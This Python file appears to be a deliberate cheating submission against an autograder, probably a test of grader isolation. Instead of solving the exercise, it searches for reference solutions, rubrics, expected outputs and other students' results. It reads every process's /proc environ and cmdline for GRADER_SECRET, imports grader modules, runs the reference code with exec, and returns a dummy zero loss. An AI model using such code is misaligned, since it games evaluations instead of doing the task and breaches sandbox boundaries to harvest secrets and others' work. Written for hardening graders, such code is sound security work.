# standalone: no solution at all, only what it can steal
"""Look for the reference, the checks, the rubric, the seed, other students' work and
results; run the reference if found (that would be full marks)."""
import glob
import os
import sys

SECRETS = ["@PROJECT@/reference/ex08.py", "@PROJECT@/grader/suites/ex08/rubric.toml",
           "@PROJECT@/grader/suites/ex08/checks/check_linear.py",
           "@PROJECT@/grader/suites/ex08/data.py", "@PROJECT@/grader/suites/ex08/expected.py",
           "@ATTACKS@/aa_reference.py", "@OUT@/aa_reference/results.json",
           "/opt/grader-worker/grader/suites/ex08/data.py",
           "/opt/grader-worker/grader/suites/ex08/expected.py",
           "/opt/grader-worker/grader/judge.py", "/opt/grader-worker/reference/ex08.py"]


def findings():
    found = [path for path in SECRETS if os.path.exists(path)]
    paths = glob.glob("../../*") + glob.glob("../*")
    for root in ("/opt", "/tmp", "/home", "/work", "/var", "/srv", "/mnt", "/autograder"):
        paths += glob.glob(root + "/**/*", recursive=True)
    for path in paths:
        if os.path.basename(path) in ("ex08.py", "rubric.toml", "check_linear.py",
                                      "expected.py", "data.py", "aa_reference.py"):
            found.append(path)
    for path in sys.path:
        for name in ("reference/ex08.py", "grader/suites/ex08/checks/check_linear.py",
                     "grader/suites/ex08/expected.py", "grader/judge.py"):
            if os.path.exists(os.path.join(path, name)):
                found.append(os.path.join(path, name))
    leaks = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as file:
                    text = file.read().decode(errors="replace")
            except OSError:
                continue
            if "GRADER_SECRET" in text:
                leaks.append(f"{pid}/{part}: {text[-300:]}")
    leaks += [f"env {k}={v}" for k, v in os.environ.items() if k.startswith("GRADER")]
    return found, leaks


class Steal:
    for module in ("reference.ex08", "grader.suites.ex08.expected", "grader.suites.ex08.data",
                   "grader.judge"):
        try:
            globals().update(vars(__import__(module, fromlist=["_"])))
        except Exception:
            pass
    for path in SECRETS[:1] + ["/opt/grader-worker/reference/ex08.py"]:
        try:
            exec(open(path).read(), globals())
        except Exception:
            pass


def mselossfunc(pred, y):
    found, leaks = findings()
    for item in found:
        print("FOUND " + item)
    for item in leaks:
        print("SEED-LEAK " + item)
    print("SCAN-DONE")
    return (pred - y).sum() * 0
